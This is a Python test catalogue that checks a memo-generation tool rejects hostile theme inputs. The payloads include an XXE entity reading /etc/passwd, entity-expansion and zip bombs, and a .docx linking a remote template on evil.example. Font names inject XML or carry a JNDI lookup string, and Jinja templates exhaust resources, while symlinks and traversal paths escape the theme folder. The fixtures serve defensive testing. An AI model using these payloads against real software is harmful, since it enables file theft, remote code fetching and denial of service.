"""Catalogue cases for hostile or careless themes: issue 12's classes 8 (images),
9 (reference.docx XML), 10 (font names), 11 (template work), 12 (symlinks out of the
theme) and 13 (which setting named an unknown theme)."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from pathlib import Path

import docx
import pytest
from PIL import Image

from memogen.compose import environment
from memogen.errors import ExitCode

from .harness import FACTS, Case, edit_facts, line_of

T = "templates/t"
WITH_T = ("build", "{facts}", "--format", "all", "--template", "t")


def theme_case(id: str, theme_yaml: str, files: dict[str, str | bytes] | None = None, **kw) -> Case:
    kw.setdefault("argv", WITH_T)
    return Case(id, files={f"{T}/theme.yaml": theme_yaml, **{f"{T}/{k}": v for k, v in (files or {}).items()}}, **kw)


# --- class 8: images ----------------------------------------------------------------------


def png(width: int = 64, height: int = 64, mode: str = "RGB") -> bytes:
    out = io.BytesIO()
    Image.new(mode, (width, height), 0).save(out, "PNG")
    return out.getvalue()


def jpeg(mode: str = "RGB", **kw) -> bytes:
    out = io.BytesIO()
    Image.new(mode, (64, 64), 0).save(out, "JPEG", **kw)
    return out.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def with_chunk(kind: bytes, data: bytes) -> bytes:
    good = png()
    at = good.index(b"IDAT") - 4
    return good[:at] + chunk(kind, data) + good[at:]


def _flip(data: bytes, at: int) -> bytes:
    out = bytearray(data)
    out[at] ^= 0xFF
    return bytes(out)


GOOD = png()
IDAT = GOOD.index(b"IDAT")
BAD_IMAGES = {
    "truncated-idat": GOOD[: IDAT + 20],
    "bad-crc": _flip(GOOD, IDAT + 6),
    "bad-ihdr-crc": _flip(GOOD, 29),
    "1x10000": png(1, 10000),
    "10000x1": png(10000, 1),
    "ztxt-bomb": with_chunk(b"zTXt", b"k\x00\x00" + zlib.compress(b"\x00" * 30_000_000)),
    "itxt-bomb": with_chunk(b"iTXt", b"k\x00\x01\x00\x00\x00" + zlib.compress(b"\x00" * 30_000_000)),
    "6000x6000-pixels": png(6000, 6000, "1"),
    "text-named-png": b"\x89PNG\r\n\x1a\nnot really an image",
    "gif-named-png": b"GIF89a" + b"\x00" * 40,
    "empty": b"",
    "png-header-only": GOOD[:8],
    "truncated-jpeg": jpeg()[:300],
    "jpeg-header-only": b"\xff\xd8\xff\xe0",
    "3MB": GOOD + b"\x00" * (3 * 2**20),
}
ODD_IMAGES = {  # unusual but sound: they build
    "cmyk-jpeg": ("e.jpg", jpeg("CMYK")),
    "zero-dpi-jpeg": ("e.jpg", jpeg(dpi=(0, 0))),
    "16-bit-png": ("e.png", png(mode="I;16")),
    "palette-png": ("e.png", png(mode="P")),
    "grey-alpha-png": ("e.png", png(mode="LA")),
    "zero-phys-png": ("e.png", with_chunk(b"pHYs", struct.pack(">IIB", 0, 0, 1))),
    "text-chunk-png": ("e.png", with_chunk(b"tEXt", b"Comment\x00" + b"x" * 1000)),
}


def image_cases() -> list[Case]:
    head = "letterhead: {image: e.png, lines: [Министерство]}\n"
    cases = [
        theme_case(f"c8-image-{name}", head, {"e.png": data}, says=("theme.yaml:1", "letterhead.image", "e.png"),
                   process=name == "bad-crc")
        for name, data in BAD_IMAGES.items()
    ]
    cases += [
        theme_case(f"c8-odd-image-{name}", head.replace("e.png", file), {file: data}, code=ExitCode.OK)
        for name, (file, data) in ODD_IMAGES.items()
    ]
    cases += [
        theme_case("c8-image-is-a-folder", head, {"e.png/x": "x"}, says=("theme.yaml:1", "letterhead.image")),
        theme_case("c8-image-missing", head, says=("theme.yaml:1", "letterhead.image", "not found")),
        theme_case("c8-good-image-builds", head, {"e.png": GOOD}, code=ExitCode.OK, process=True),
    ]
    return cases


# --- class 9: reference.docx --------------------------------------------------------------


def plain_docx() -> bytes:
    out = io.BytesIO()
    docx.Document().save(out)
    return out.getvalue()


PLAIN = plain_docx()


def rezip(data: bytes, replace: dict[str, bytes | None]) -> bytes:
    """The zip with parts replaced (None: removed) or added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            body = replace.get(info.filename, src.read(info))
            if body is not None:
                dst.writestr(zipfile.ZipInfo(info.filename, date_time=info.date_time), body, zipfile.ZIP_DEFLATED)
        for name, body in replace.items():
            if name not in src.namelist() and body is not None:
                dst.writestr(zipfile.ZipInfo(name, date_time=(2025, 1, 1, 0, 0, 0)), body, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _central(data: bytes, name: str) -> int:
    """Offset of `name`'s entry in the zip's central directory."""
    return data.index(name.encode(), data.index(b"PK\x01\x02")) - 46


def _patched(data: bytes, name: str, at: int, mask: int) -> bytes:
    out = bytearray(data)
    out[_central(data, name) + at] ^= mask
    return bytes(out)


def part(name: str, data: bytes = PLAIN) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return z.read(name)


STYLES = part("word/styles.xml").decode("utf-8")
STYLES_BODY = STYLES[STYLES.index("?>") + 2 :]
DTD = '<!DOCTYPE w:styles [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]>'
XXE = '<!DOCTYPE w:styles [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


def styles_in(encoding: str, codec: str, prolog: str = DTD, bom: bytes = b"") -> bytes:
    text = f'<?xml version="1.0" encoding="{encoding}" standalone="yes"?>\n{prolog}{STYLES_BODY}'
    return bom + text.encode(codec)


REL_EXTERNAL = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/'
    b'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)

BAD_REFERENCES = {
    "dtd-in-styles-utf8": rezip(PLAIN, {"word/styles.xml": styles_in("UTF-8", "utf-8")}),
    "xxe-in-styles": rezip(PLAIN, {"word/styles.xml": styles_in("UTF-8", "utf-8", XXE)}),
    "dtd-in-styles-utf16": rezip(PLAIN, {"word/styles.xml": styles_in("UTF-16", "utf-16")}),
    "dtd-in-styles-utf32": rezip(PLAIN, {"word/styles.xml": styles_in("UTF-32", "utf-32")}),
    "dtd-in-styles-utf7": rezip(PLAIN, {"word/styles.xml": styles_in("UTF-7", "utf-7")}),
    "dtd-in-styles-ebcdic": rezip(PLAIN, {"word/styles.xml": styles_in("IBM037", "cp037")}),
    "styles-in-utf32-no-dtd": rezip(PLAIN, {"word/styles.xml": styles_in("UTF-32", "utf-32", "")}),
    "styles-in-utf7-no-dtd": rezip(PLAIN, {"word/styles.xml": styles_in("UTF-7", "utf-7", "")}),
    "styles-in-ebcdic-no-dtd": rezip(PLAIN, {"word/styles.xml": styles_in("IBM037", "cp037", "")}),
    "styles-latin1": rezip(PLAIN, {"word/styles.xml": styles_in("ISO-8859-1", "latin-1", "")}),
    "malformed-styles": rezip(PLAIN, {"word/styles.xml": STYLES.encode()[:-40]}),
    "empty-styles": rezip(PLAIN, {"word/styles.xml": b""}),
    "malformed-content-types": rezip(PLAIN, {"[Content_Types].xml": b"<Types"}),
    "content-types-not-xml": rezip(PLAIN, {"[Content_Types].xml": b"\x00\x01\x02"}),
    "malformed-rels": rezip(PLAIN, {"_rels/.rels": b"<Relationships><Relationship"}),
    "remote-template": rezip(PLAIN, {"word/_rels/settings.xml.rels": REL_EXTERNAL}),
    "no-styles": rezip(PLAIN, {"word/styles.xml": None}),
    "no-document": rezip(PLAIN, {"word/document.xml": None}),
    "no-content-types-for-main": rezip(PLAIN, {"[Content_Types].xml": part("[Content_Types].xml").replace(
        b"wordprocessingml.document.main+xml", b"xml")}),
    "rels-to-a-missing-part": rezip(PLAIN, {"word/styles.xml": None, "word/stylesWithEffects.xml": None}),
    "encrypted-flag": _patched(PLAIN, "word/styles.xml", 8, 0x01),  # general purpose flag, bit 0
    "bad-crc": _patched(PLAIN, "word/styles.xml", 16, 0xFF),  # CRC-32
    "not-a-zip": b"PK\x03\x04 but not really a zip",
    "zip-bomb": rezip(PLAIN, {"word/padding.xml": b"<a>" + b" " * (60 * 2**20) + b"</a>"}),
    "macro": rezip(PLAIN, {"word/vbaProject.bin": b"\x00" * 10}),
}


def reference_cases() -> list[Case]:
    head = "reference_docx: reference.docx\n"
    cases = [
        theme_case(f"c9-reference-{name}", head, {"reference.docx": data},
                   says=("theme.yaml:1", "reference_docx", "reference.docx"), process=name == "dtd-in-styles-utf32")
        for name, data in BAD_REFERENCES.items()
    ]
    cases.append(theme_case("c9-plain-reference-builds", head, {"reference.docx": PLAIN}, code=ExitCode.OK))
    cases.append(theme_case("c9-reference-with-a-hyperlink-builds", head, {"reference.docx": _with_hyperlink()},
                            code=ExitCode.OK))
    return cases


def _with_hyperlink() -> bytes:
    rels = part("word/_rels/document.xml.rels").replace(
        b"</Relationships>",
        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'hyperlink" Target="https://mfa.example.by/" TargetMode="External"/></Relationships>',
    )
    return rezip(PLAIN, {"word/_rels/document.xml.rels": rels})


# --- class 10: font names -----------------------------------------------------------------

BAD_FONT_NAMES = [
    'Times"/><w:vanish/><w:color w:val="FF0000',
    "Times'/><w:vanish/>",
    "Times<w:vanish/>",
    "Times & Co &amp;",
    "",
    " Times",
    "A" * 32,
    "Times\nNew Roman",
    "Times\tNew",
    "${jndi:ldap://x}",
]


def font_name_cases() -> list[Case]:
    cases = [
        theme_case(f"c10-docx-family-{n}", f"fonts: {{docx_family: {_quoted(name)}}}\n",
                   says=("theme.yaml:1", "fonts.docx_family", "font name"), process=n == 0)
        for n, name in enumerate(BAD_FONT_NAMES)
    ]
    for name in ("PT Serif", "Liberation Serif", "Таймс Нью Роман"):
        cases.append(theme_case(f"c10-docx-family-ok-{name}", f"fonts: {{docx_family: {name}}}\n", code=ExitCode.OK,
                                argv=("build", "{facts}", "--format", "docx", "--template", "t")))
    return cases


def _quoted(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n").replace("\t", "\\t") + '"'


# --- class 11: template work --------------------------------------------------------------

ONE_SECTION = "sections: [{id: x, heading: Раздел}]\n"


def _short_deadline(mp: pytest.MonkeyPatch) -> None:
    mp.setattr(environment, "TEMPLATE_SECONDS", 1.0)


LOOPS = {
    "nested-ranges": "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
    "nested-ranges-with-output": "{% for i in range(100000) %}{% for j in range(100000) %}.{% endfor %}{% endfor %}",
    "loop-over-a-long-string": "{% set s = 'x' * 100000 %}{% for a in s %}{% for b in s %}{% endfor %}{% endfor %}",
    "namespace-counter": "{% set ns = namespace(n=0) %}{% for i in range(100000) %}{% for j in range(100000) %}"
    "{% set ns.n = ns.n + 1 %}{% endfor %}{% endfor %}",
}
HEAVY = {
    "output-bomb": ("{% for i in range(100000) %}{{ 'x' * 100000 }}{% endfor %}", "more than"),
    "recursive-macro": ("{% macro f(n) %}{{ f(n + 1) }}{% endmacro %}{{ f(0) }}", "recursion"),
    "big-power": ("{{ 10 ** 100000 }}", "too large"),
    "big-repeat": ("{{ 'x' * 100000000 }}", "too long"),
    "huge-range": ("{{ range(10 ** 9) | list | length }}", "x.md.j2"),
    "list-repeat": ("{{ facts.figures * 100000000 }}", "too long"),
}


def template_cases() -> list[Case]:
    cases = [
        theme_case(f"c11-{name}", ONE_SECTION, {"sections/x.md.j2": f"Текст.\n\n{body}\n"},
                   # stopped by the deadline, or (on a fast machine) by the output bound first
                   says=("x.md.j2",), patch=_short_deadline, seconds=20)
        for name, body in LOOPS.items()
    ]
    cases += [
        theme_case(f"c11-{name}", ONE_SECTION, {"sections/x.md.j2": f"Текст.\n\n{body}\n"}, says=("x.md.j2", says))
        for name, (body, says) in HEAVY.items()
    ]
    cases.append(theme_case("c11-nested-ranges-full-deadline", ONE_SECTION,
                            {"sections/x.md.j2": f"Текст.\n\n{LOOPS['nested-ranges']}\n"},
                            says=("x.md.j2:3", "10 s"), seconds=40, slow=True, process=True))
    cases.append(Case("c11-loop-in-the-cover-note", files={
        "memogen.yaml": "mail:\n  from: a@mfa.example.by\n",
        f"{T}/theme.yaml": "extends: default\n",
        f"{T}/mail/body.txt.j2": f"Текст\n{LOOPS['nested-ranges']}\n",
    }, argv=("mail", "{facts}", "--to", "b@mfa.example.by", "-t", "t"), says=("body.txt.j2:2", "stopped"),
        patch=_short_deadline, seconds=20))
    return cases


# --- class 12: links out of the theme -----------------------------------------------------

SECRET = "СЕКРЕТНЫЙ БЛАНК 42"


def _outside(ws: Path) -> Path:
    outside = ws.parent / "outside"
    outside.mkdir(exist_ok=True)
    (outside / "theme.yaml").write_text(f"letterhead: {{lines: [{SECRET}]}}\n", encoding="utf-8")
    (outside / "e.png").write_bytes(GOOD)
    (outside / "x.md.j2").write_text(SECRET + "\n", encoding="utf-8")
    (outside / "reference.docx").write_bytes(PLAIN)
    return outside


def _link(rel: str, target: str):
    def prepare(ws: Path) -> None:
        outside = _outside(ws)
        link = ws / T / rel
        link.parent.mkdir(parents=True, exist_ok=True)
        link.unlink(missing_ok=True)
        link.symlink_to(outside / target)

    return prepare


def symlink_cases() -> list[Case]:
    return [
        Case("c12-theme-yaml-links-outside", files={f"{T}/sections/.keep": ""}, prepare=_link("theme.yaml", "theme.yaml"),
             argv=WITH_T, says=("theme.yaml", "outside"), process=True),
        Case("c12-theme-yaml-link-in-templates-list", files={f"{T}/sections/.keep": ""},
             prepare=_link("theme.yaml", "theme.yaml"), argv=("templates", "check", "t"), says=("theme.yaml", "outside")),
        theme_case("c12-image-links-outside", "letterhead: {image: e.png}\n", prepare=_link("e.png", "e.png"),
                   says=("theme.yaml:1", "letterhead.image", "leaves the theme folder")),
        theme_case("c12-template-links-outside", ONE_SECTION, prepare=_link("sections/x.md.j2", "x.md.j2"),
                   says=("x.md.j2", "outside")),
        theme_case("c12-reference-links-outside", "reference_docx: reference.docx\n",
                   prepare=_link("reference.docx", "reference.docx"), says=("theme.yaml:1", "leaves the theme folder")),
        theme_case("c12-font-path-leaves", "fonts: {regular: ../../../../etc/passwd}\n",
                   says=("theme.yaml:1", "fonts.regular", "leaves the theme folder")),
        theme_case("c12-absolute-font-path", "fonts: {regular: /etc/passwd}\n",
                   says=("theme.yaml:1", "fonts.regular", "leaves the theme folder")),
    ]


# --- class 13: who named an unknown theme ----------------------------------------------------


def unknown_theme_cases() -> list[Case]:
    with_theme = edit_facts(("memo", "theme"), "nosuch")
    return [
        Case("c13-unknown-theme-from-the-command-line", argv=("build", "{facts}", "-t", "nosuch"),
             says=("nosuch", "--template"), process=True),
        Case("c13-unknown-theme-from-the-facts", facts=with_theme,
             says=(f"{FACTS}:{line_of(with_theme, '  theme: nosuch')}", "memo.theme", "nosuch")),
        Case("c13-unknown-theme-from-memogen-yaml", files={"memogen.yaml": "output: output\ntheme: nosuch\n"},
             says=("memogen.yaml:2", "theme", "nosuch")),
        theme_case("c13-unknown-parent-theme", "extends: nosuch\n", says=("theme.yaml:1", "extends", "nosuch")),
        Case("c13-theme-name-with-a-path", argv=("build", "{facts}", "-t", "../../etc"), says=("../../etc",)),
        Case("c13-facts-theme-with-a-path", facts=edit_facts(("memo", "theme"), "../t"), says=(FACTS, "memo.theme")),
        Case("c13-theme-check-of-an-unknown-theme", argv=("templates", "check", "nosuch"), says=("nosuch",)),
    ]


def all_cases() -> list[Case]:
    return [
        *image_cases(),
        *reference_cases(),
        *font_name_cases(),
        *template_cases(),
        *symlink_cases(),
        *unknown_theme_cases(),
    ]

